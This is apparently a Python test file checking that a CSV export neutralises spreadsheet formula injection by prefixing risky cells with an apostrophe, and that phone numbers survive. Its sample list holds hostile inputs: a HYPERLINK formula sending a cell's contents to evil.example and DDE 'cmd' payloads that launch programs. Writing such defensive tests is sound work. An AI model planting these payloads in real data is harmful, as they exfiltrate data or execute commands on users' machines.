"""Spreadsheet formulas in producers' data are exported as text, never run by the software that opens the file."""

import csv
import io

import pytest

from core.spreadsheet import neutralise
from tests.services.factories import ServiceFactory
from tests.structures.factories import StructureFactory

pytestmark = pytest.mark.django_db

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"clic")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "-",  # harmless, but a lone sign must not break anything either
]
PHONES = [
    "+33 1 23 45 67 89",
    "+33.1.23.45.67.89",
    "+33 (0)1 23 45 67 89",
    "+33\u00a01\u00a023\u00a045\u00a067\u00a089",
]


@pytest.mark.parametrize("value", FORMULAS[:-1])
def test_cells_starting_a_formula_become_text(value):
    assert neutralise(value) == "'" + value


@pytest.mark.parametrize("value", [*PHONES, "-", "-12.5", "03 20 00 00 00", "Atelier = bien", "", "dora--a"])
def test_phone_numbers_and_plain_text_are_kept(value):
    assert neutralise(value) == value


@pytest.mark.parametrize("value", ["+33 1 23 45 67 89+A1", "+33 1 23|cmd", "-1e3", "+1,2"])
def test_numbers_with_anything_else_are_neutralised(value):
    assert neutralise(value) == "'" + value


def exported_rows(client) -> list[dict]:
    response = client.get("/services/export.csv")
    assert response.status_code == 200
    content = b"".join(response.streaming_content).decode().lstrip("\ufeff")
    return list(csv.DictReader(io.StringIO(content)))


def test_the_search_export_neutralises_every_cell(client):
    structure = StructureFactory(nom="=1+1")
    for index, formula in enumerate(FORMULAS):
        ServiceFactory(id=f"dora--{index}", nom=formula, structure=structure, telephone=PHONES[index % len(PHONES)])
    rows = {row["id"]: row for row in exported_rows(client)}
    for index, formula in enumerate(FORMULAS):
        row = rows[f"dora--{index}"]
        assert row["nom"] == (formula if formula == "-" else "'" + formula)
        assert row["structure_nom"] == "'=1+1"
        assert row["telephone"] == PHONES[index % len(PHONES)]  # phone numbers stay usable
